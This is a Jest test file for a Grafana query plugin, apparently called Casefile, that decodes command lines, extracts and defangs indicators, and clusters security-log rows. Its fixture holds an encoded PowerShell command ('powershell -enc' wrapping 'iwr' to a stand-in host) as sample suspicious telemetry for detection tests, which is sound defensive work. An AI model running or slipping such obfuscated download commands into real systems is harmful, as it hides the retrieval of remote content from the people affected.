import { type DataFrameDTO, type FieldType } from '@grafana/data';
import { decodedFrame } from '../../frames/decoded';
import { indicatorsFrame } from '../../frames/indicators';
import { type CasefileQuery, upgradeQuery } from '../query';
import { readSteps, withSteps } from './withSteps';

const HIDDEN = `powershell -enc ${Buffer.from('iwr http://example.org/a', 'utf16le').toString('base64')}`;
const LINES: DataFrameDTO = {
  name: 'kql',
  refId: 'A',
  meta: { notices: [{ severity: 'warning', text: 'Cut.' }] },
  fields: [
    { name: 'TimeGenerated', type: 'time' as FieldType, config: {}, values: [1_000, 2_000, 3_000] },
    { name: 'CommandLine', type: 'string' as FieldType, config: {}, values: ['ping 8.8.8.8', HIDDEN, 'ping 1.1.1.1'] },
    {
      name: 'Computer',
      type: 'string' as FieldType,
      config: { displayName: 'Host' },
      values: ['ws-1', 'ws-2', 'ws-3'],
    },
  ],
};

async function run(
  steps: readonly object[],
  frames: readonly DataFrameDTO[] = [LINES]
): Promise<readonly DataFrameDTO[]> {
  const read = readSteps(steps);
  if (!read.ok) {
    throw new Error(read.error);
  }
  const query = { kind: 'kql', parameters: {}, fill: () => query, run: () => Promise.resolve(frames) };
  return withSteps(query, read.value).run({
    range: { from: 0, to: 1 },
    ask: () => Promise.reject(new Error('unused')),
  });
}

const column = ({ fields }: DataFrameDTO, name: string) => fields.find((field) => field.name === name)?.values;

describe('the steps of a query', () => {
  it('decode a column, and keep the columns of the row that each item came from', async () => {
    const [frame] = await run([{ step: 'decode', column: 'commandline' }]);
    expect(decodedFrame.read(frame!).ok).toBe(true);
    expect(column(frame!, 'decoded_string')).toEqual(['iwr http://example.org/a']);
    expect(column(frame!, 'Computer')).toEqual(['ws-2']);
    expect(frame!.fields.find(({ name }) => name === 'Computer')?.config).toEqual({ displayName: 'Host' });
    expect(frame).toMatchObject({ refId: 'A', meta: { notices: [{ text: 'Cut.' }] } });
  });

  it('go one after the other: indicators in what was decoded', async () => {
    const [frame] = await run([{ step: 'decode', column: 'CommandLine' }, { step: 'indicators' }]);
    expect(indicatorsFrame.read(frame!).ok).toBe(true);
    expect(column(frame!, 'value')).toEqual(['http://example.org/a', 'example.org']);
    expect(column(frame!, 'defanged')).toEqual(['hXXp://example[.]org/a', 'example[.]org']);
    expect(column(frame!, 'Computer')).toEqual(['ws-2', 'ws-2']);
  });

  it('find indicators in the command line itself, and decoded on request', async () => {
    const [plain] = await run([{ step: 'indicators' }]);
    expect(column(plain!, 'value')).toEqual(['8.8.8.8', '1.1.1.1']);
    const [all] = await run([{ step: 'indicators', decode: true, types: ['url', 'ipv4'] }]);
    expect(column(all!, 'value')).toEqual(['8.8.8.8', 'http://example.org/a', '1.1.1.1']);
    expect(column(all!, 'decodedFrom')).toEqual(['', '1', '']);
  });

  it('cluster rows by features or by numeric columns, and tell the times of each cluster', async () => {
    const [first] = await run([
      { step: 'cluster', mode: 'dbscan', features: ['commandlineTokensFull'], scale: 'none', eps: 0 },
    ]);
    expect(column(first!, 'CommandLine')).toEqual([HIDDEN, 'ping 8.8.8.8']);
    expect(column(first!, 'ClusterSize')).toEqual([1, 2]);
    expect(column(first!, 'FirstEventTime')).toEqual([2_000, 1_000]);
    expect(column(first!, 'LastEventTime')).toEqual([2_000, 3_000]);
    const [all] = await run([{ step: 'cluster', mode: 'shape', rows: 'all' }]);
    expect(column(all!, 'ClusterId')).toEqual([0, -1, 0]);
    const [numeric] = await run([
      { step: 'cluster', features: ['TimeGenerated'], scale: 'none', eps: 500, minPoints: 1 },
    ]);
    expect(column(numeric!, 'ClusterId')).toEqual([0, 1, 2]);
  });

  it('leave further frames and the query itself as they are', async () => {
    const frames = await run([{ step: 'decode' }], [LINES, { name: 'other', fields: [] }]);
    expect(frames.map(({ name }) => name)).toEqual(['decoded', 'other']);
    expect(column(LINES, 'CommandLine')).toHaveLength(3);
  });

  it('have nothing to do with no rows', async () => {
    const empty = { ...LINES, fields: LINES.fields.map((field) => ({ ...field, values: [] })) };
    for (const step of ['decode', 'indicators', 'cluster']) {
      const [frame] = await run([{ step }], [empty]);
      expect(frame!.fields.length).toBeGreaterThan(2);
      expect(frame!.fields.every(({ values }) => values?.length === 0)).toBe(true);
    }
  });

  it.each<[string, object]>([
    ['There is no column "Line". Known are TimeGenerated, CommandLine, Computer,', { step: 'decode', column: 'Line' }],
    ['it is no feature', { step: 'cluster', features: ['Colour'] }],
  ])('say which of them failed: %s', async (sentence, step) => {
    await expect(run([{ step: 'cluster', mode: 'shape', rows: 'all' }, step])).rejects.toThrow(sentence);
    await expect(run([{ step: 'cluster', mode: 'shape', rows: 'all' }, step])).rejects.toThrow('Step 2: ');
  });
});

describe('a saved query with steps', () => {
  const query = (steps: unknown) => ({ refId: 'A', kind: 'kql', kql: 'SecurityEvent', steps }) as CasefileQuery;

  it('fills variables in, and is saved again with its steps', () => {
    const opened = upgradeQuery(query([{ step: 'decode', column: '$column' }]));
    const fill = { text: (text: string) => text.replace('$column', 'Line'), list: () => [], kql: (kql: string) => kql };
    expect(opened.ok && opened.value.fill(fill).parameters).toEqual({
      plan: 'analytics',
      kql: 'SecurityEvent',
      steps: [{ step: 'decode', column: 'Line' }],
    });
  });

  it.each<[string, unknown]>([
    ['The steps of a query are a list', 'decode'],
    ['Step 1: "guess" is not a step that this version of Casefile knows.', [{ step: 'guess' }]],
    ['Step 1: undefined is not a step', [null]],
    ['Step 2: Types cannot be "ip".', [{ step: 'decode' }, { step: 'indicators', types: ['ip'] }]],
    ['Step 1: Distance must be a number from 0 up, not -1.', [{ step: 'cluster', eps: -1 }]],
  ])('is refused with a sentence: %s', (sentence, steps) => {
    expect(upgradeQuery(query(steps))).toEqual({ ok: false, error: expect.stringContaining(sentence) as string });
  });
});
